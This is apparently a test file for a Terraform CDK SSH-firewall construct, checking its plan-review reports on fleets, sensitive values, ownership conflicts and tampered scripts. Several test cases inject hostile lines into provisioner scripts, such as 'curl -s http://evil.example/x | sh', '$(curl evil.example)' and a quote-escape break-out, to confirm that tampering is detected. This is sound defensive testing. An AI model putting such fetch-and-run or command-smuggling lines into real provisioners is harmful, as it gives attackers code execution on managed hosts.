/** Reviews of plans that are large, mixed with what is not ours, or not as this construct makes them. */
import { mkdirSync, writeFileSync } from "node:fs";
import { DataResource, TerraformOutput, type TerraformStack, TerraformVariable } from "cdktf";
import { defined, items } from "../support/required";
import { AllowedSource, type HostProps, SshOnlyFirewall } from "../../lib/index";
import { hostProgramVersion } from "../../lib/host/program";
import { fingerprint } from "../../lib/contract/fingerprint";
import { readPlan } from "../../lib/review/plan";
import { reviewJson, reviewPlan } from "../../lib/review/review";
import { expectGolden } from "../review/support/golden";
import { type Configuration } from "./support/plan-project";
import {
  allowFrom,
  connection,
  describeReviews,
  details,
  HOST_KEY,
  hosts,
  kinds,
  outcomes,
  reviewed,
} from "./support/describe-reviews";

describeReviews("the review of a plan", ({ project, firewall, change }) => {
  test("of one ruleset change of 400 hosts shows one diff and a list", async () => {
    const made = await project();
    const [[key, { address }], ...others] = items(Object.entries(hosts(400, 3)), 1);
    await made.apply(firewall(made, { hosts: { [key]: address } }));
    made.multiply(
      key,
      address,
      others.map(([other, host]) => [other, host.address]),
    );
    const after = { hosts: hosts(400, 3), allowFrom: [...allowFrom, "198.51.100.7"] };
    const review = reviewed(await made.plan(firewall(made, after)));
    expect(review.planned.text).toContain("Plan: 417 to add, 0 to change, 417 to destroy.");
    expect(kinds(review)).toEqual([]);
    expect(review.rulesetChanges).toHaveLength(1);
    expect(defined(review.rulesetChanges[0]).hosts).toEqual(Object.keys(hosts(400, 3)));
    expectGolden("fleet-of-400.md", review.markdown);
  });

  test("of a stack with other resources counts them", async () => {
    const made = await project();
    const others = (count: number, input: string) => (stack: TerraformStack) => {
      for (let index = 0; index < count; index += 1) {
        new DataResource(stack, `other-${index}`, { input: { input } });
      }
    };
    await made.apply(firewall(made, { hosts: hosts(2) }, others(3, "a")));
    const review = reviewed(await made.plan(firewall(made, { hosts: hosts(3) }, others(2, "b"))));
    expect([...review.others]).toEqual([
      ["delete", 1],
      ["update", 2],
    ]);
    expectGolden("mixed-stack.md", review.markdown);
  });

  test("reports values that are known after apply, and gives no fingerprint", async () => {
    const made = await project();
    const configuration = made.configuration((stack) => {
      const server = new DataResource(stack, "server", { input: { ip: "x" } });
      const address = server.getStringAttribute("id");
      new SshOnlyFirewall(stack, "fleet", {
        tracker: "terraform_data",
        connection,
        allowFrom: [AllowedSource.ipv4(address)],
        hosts: { "web-1": address, "web-2": { address: "10.0.0.2", allowFrom } },
      });
    });
    const review = reviewed(await made.plan(configuration));
    expect(details(review, "unknown")).toEqual(["web-1: its ruleset is (known after apply)"]);
    expect(review.fingerprint).toBeUndefined();
    expectGolden("known-after-apply.md", review.markdown);
  });

  test("shows no sensitive value", async () => {
    const made = await project();
    const configuration = made.configuration((stack) => {
      const secret = new TerraformVariable(stack, "secret", {
        type: "string",
        sensitive: true,
        default: "203.0.113.77",
      });
      new SshOnlyFirewall(stack, "fleet", {
        tracker: "terraform_data",
        connection,
        allowFrom: [AllowedSource.ipv4(secret.stringValue)],
        hosts: { "web-1": secret.stringValue },
      });
    });
    const review = reviewed(await made.plan(configuration));
    expect(review.planned.json).toContain("203.0.113.77");
    expect(review.markdown + JSON.stringify(reviewJson(review, ""))).not.toContain("203.0.113.77");
    expect(review.markdown).toContain("address sensitive");
  });

  test("of a plan that failed half-way reports that it is incomplete", async () => {
    const made = await project();
    await made.apply(firewall(made, { hosts: hosts(1) }));
    const lifecycle = { precondition: [{ condition: "${terraform_data.fleet_hold == null}", error_message: "No." }] };
    const broken = firewall(made, { hosts: hosts(2) });
    const resource = { terraform_data: { ...broken.resource?.terraform_data, fails: { lifecycle } } };
    const review = reviewed(await made.plan({ ...broken, resource }));
    expect(review.errored).toBe(true);
    expect(kinds(review)).toContain("incomplete");
    expect(review.fingerprint).toBeUndefined();
    expect(review.markdown).toContain("**This plan failed and cannot be applied. ");
  });

  test("of hosts in modules, with keys of their own, distinguishes them", async () => {
    const made = await project();
    const inner = firewall(made, { hosts: hosts(1) });
    const { terraform: settings, ...module } = inner;
    expect(settings).toBeDefined();
    mkdirSync(made.path("inner"));
    const outer = (sites: string[]): Configuration => ({
      terraform: settings,
      module: { site: { source: "./inner", for_each: Object.fromEntries(sites.map((site) => [site, site])) } },
    });
    const states = JSON.parse(JSON.stringify(module)) as Configuration;
    Object.values(states.resource?.terraform_data ?? {}).forEach((one) => delete one.provisioner);
    writeFileSync(made.path("inner/main.tf.json"), JSON.stringify(states));
    await made.apply(outer(["a", 'b"]']));
    writeFileSync(made.path("inner/main.tf.json"), JSON.stringify(module));
    const review = reviewed(await made.plan(outer(["a"])));
    expect(outcomes(review)).toEqual({
      'module.site["a"].fleet/web-1': "stay",
      'module.site["b\\"]"].fleet/web-1': "unlock",
    });
    const gone = reviewed(await made.plan({ terraform: settings }));
    expect(Object.values(outcomes(gone))).toEqual(["leave", "leave"]);
  });

  test("of a move to terraform_data follows the hosts, and reports what the move does to them", async () => {
    const made = await project("null_resource");
    await made.apply(firewall(made, { tracker: "null_resource", hosts: hosts(1) }));
    const moved = ["ruleset", "hold", "lockdown"].map((part) => ({
      from: `null_resource.fleet_${part}`,
      to: `terraform_data.fleet_${part}`,
    }));
    const after = firewall(made, { hosts: hosts(1) });
    const review = reviewed(
      await made.plan({
        ...after,
        moved,
        terraform: { ...(after.terraform as object), required_providers: { null: { source: "hashicorp/null" } } },
      }),
    );
    expect(Object.keys(outcomes(review))).toEqual(["web-1"]);
    expect(kinds(review)).not.toContain("unclear");
    const replaced = review.planned.text.includes('terraform_data.fleet_hold["web-1"] must be replaced');
    expect(outcomes(review)).toEqual({ "web-1": replaced ? "reopen" : "relock" });
  });

  test("of a renamed construct or host reports that two owners claim one machine", async () => {
    const made = await project();
    await made.apply(firewall(made, { hosts: hosts(1) }));
    const review = reviewed(await made.plan(firewall(made, { hosts: { renamed: "10.0.0.1" } })));
    expect(details(review, "owner")).toEqual([
      "renamed: 10.0.0.1 is locked as web-1 until now; its lock may be refused unless takeOver is true",
    ]);
  });

  test("of a host whose connection alone changes names the changed settings, and no value", async () => {
    const made = await project();
    await made.apply(firewall(made, { hosts: hosts(2) }));
    const elsewhere = { hostKey: HOST_KEY, user: "admin", bastion: { host: "203.0.113.66" } };
    const own = { ...hosts(2), "web-1": { address: "10.0.0.1", connection: elsewhere } };
    const review = reviewed(await made.plan(firewall(made, { hosts: own, connection: {} })));
    expect(outcomes(review)).toEqual({ "web-1": "update", "web-2": "update" });
    expect(defined(review.hosts[0]).why).toHaveLength(1);
    expect(defined(review.hosts[0]).why[0]).toMatch(/^updated in Terraform: .*\bbastion_host\b.*\buser\b/);
    expect(defined(review.hosts[1]).why[0]).toMatch(/^updated in Terraform: .*\bhost_key\b/);
    expect(review.markdown).not.toContain("203.0.113.66");
    expect(review.markdown).toContain("Of 2 hosts: 2 updated in Terraform only.**");
    expect(details(review, "host-key")).toEqual([
      "web-2: it was pinned until now; another machine could answer in its place",
    ]);
  });

  test("of two firewalls that claim one machine reports it", async () => {
    const two = (first: Record<string, HostProps>) => (stack: TerraformStack) => {
      const props = { tracker: "terraform_data", allowFrom, connection } as const;
      new SshOnlyFirewall(stack, "fleet", { ...props, hosts: first });
      new SshOnlyFirewall(stack, "two", { ...props, hosts: { other: "10.0.0.1" } });
    };
    const [made, fresh] = [await project(), await project()];
    const both = made.configuration(two(hosts(1)));
    expect(details(reviewed(await made.plan(both)), "owner")).toEqual([
      "fleet/web-1: 10.0.0.1 is also the address of two/other; its lock may be refused unless takeOver is true",
      "two/other: 10.0.0.1 is also the address of fleet/web-1; its lock may be refused unless takeOver is true",
    ]);
    await made.apply(firewall(made, { hosts: hosts(1) }));
    expect(details(reviewed(await made.plan(both)), "owner")).toEqual([
      "two/other: 10.0.0.1 is also the address of fleet/web-1; its lock may be refused unless takeOver is true",
    ]);
    // Behind one address, at ports of their own.
    const apart = { "web-1": { address: "10.0.0.1", connection: { ...connection, port: 2201 } } };
    expect(kinds(reviewed(await fresh.plan(fresh.configuration(two(apart)))))).not.toContain("owner");
  });

  test("of hosts that exchange their addresses reports that two owners claim one machine", async () => {
    const swapped = { hosts: { "web-1": "10.0.0.2", "web-2": "10.0.0.1" } };
    const review = await change({ hosts: hosts(2) }, swapped);
    expect(details(review, "owner")).toEqual([
      "web-1: 10.0.0.2 is locked as web-2 until now; its lock may be refused unless takeOver is true",
      "web-2: 10.0.0.1 is locked as web-1 until now; its lock may be refused unless takeOver is true",
    ]);
  });

  test("of provisioners that are not the construct's names them", async () => {
    const made = await project();
    const configuration = firewall(made, { hosts: hosts(1) });
    const lockdown = defined(configuration.resource?.terraform_data).fleet_lockdown as { provisioner: unknown[] };
    lockdown.provisioner.push({ "local-exec": { command: "true" } });
    const review = reviewed(await made.plan(configuration));
    expect(details(review, "unclear")).toEqual([
      "-: terraform_data.fleet_lockdown runs other provisioners than those of this firewall; read them in the configuration",
    ]);
    expect(lockdown.provisioner.splice(1, 1)).toHaveLength(1);
    expect(kinds(reviewed(await made.plan(configuration)))).toEqual(["unclear"]);
  });

  test.each([
    [
      "a command in front",
      (text: string) => text.replace("#!/bin/sh\n", "#!/bin/sh\ncurl -s http://evil.example/x | sh\n"),
    ],
    [
      "a command among the settings",
      (text: string) => text.replace("BACKEND='auto'", "BACKEND='auto'; curl evil.example"),
    ],
    ["a setting that is shell", (text: string) => text.replace("BACKEND='auto'", 'BACKEND="$(curl evil.example)"')],
    [
      "a launcher of its own",
      (text: string) => text.replace("local.ssh_only_firewall_launcher", "local.fleet_rulesets.shared.nftables"),
    ],
    ["a command behind it", (text: string) => `${text}curl evil.example\n`],
    [
      "a template of two",
      (text: string) =>
        text.replace("each.key", "each.key, \"'\", \"'\\\\''\")}'; curl evil.example; x='${replace(each.key"),
    ],
  ])("of a script with %s reports that it is another one", async (_what, alter) => {
    const made = await project();
    const configuration = firewall(made, { hosts: hosts(1) });
    const lockdown = defined(configuration.resource?.terraform_data).fleet_lockdown as {
      provisioner: Array<{ "remote-exec": { inline: string[] } }>;
    };
    const { inline } = defined(lockdown.provisioner[0])["remote-exec"];
    const [script] = items(inline, 1);
    inline[0] = alter(script);
    expect(inline[0]).not.toBe(script);
    expect(details(reviewed(await made.plan(configuration)), "unclear")).toEqual([
      "-: terraform_data.fleet_lockdown uploads a script that this version of ssh-only-firewall does not write: read it, or review with the version that wrote the configuration",
    ]);
  });

  test.each(["ssh_only_firewall_host_program", "ssh_only_firewall_launcher"])(
    "of another %s than that of this version reports the difference",
    async (name) => {
      const made = await project();
      const configuration = firewall(made, { hosts: hosts(1) }) as { locals: Record<string, string> };
      configuration.locals[name] += "curl evil.example\n";
      expect(details(reviewed(await made.plan(configuration)), "unclear")).toEqual([
        "-: terraform_data.fleet_lockdown uploads a script that this version of ssh-only-firewall does not write: read it, or review with the version that wrote the configuration",
      ]);
    },
  );

  test("of a lockdown that lost a trigger reports it", async () => {
    const made = await project();
    const configuration = firewall(made, { hosts: hosts(1) });
    const lockdown = defined(configuration.resource?.terraform_data).fleet_lockdown as {
      triggers_replace: Record<string, string>;
    };
    delete lockdown.triggers_replace.hold;
    const review = reviewed(await made.plan(configuration));
    expect(details(review, "unclear")[0]).toContain(
      'terraform_data.fleet_lockdown["web-1"] looks like a part of a firewall',
    );
  });

  test("gives a fingerprint that the state has after the deploy", async () => {
    const made = await project();
    const configuration = firewall(made, { hosts: hosts(2) }, (stack) => {
      const { lockedHosts } = stack.node.findChild("fleet") as SshOnlyFirewall;
      new TerraformOutput(stack, "locked", { value: lockedHosts });
    });
    const before = reviewPlan(readPlan(Buffer.from((await made.plan(configuration)).json)));
    await made.apply(configuration);
    const state = JSON.parse(await made.terraform("show", "-json")) as {
      values: { outputs: { locked: { value: Record<string, { address: string; ruleset_sha256: string }> } } };
    };
    const locked = Object.entries(state.values.outputs.locked.value).map(
      ([key, { address, ruleset_sha256: ruleset }]) => {
        return { key, address, ruleset, program: hostProgramVersion() };
      },
    );
    expect(before.fingerprint).toBe(fingerprint(locked.reverse()));
  });
});
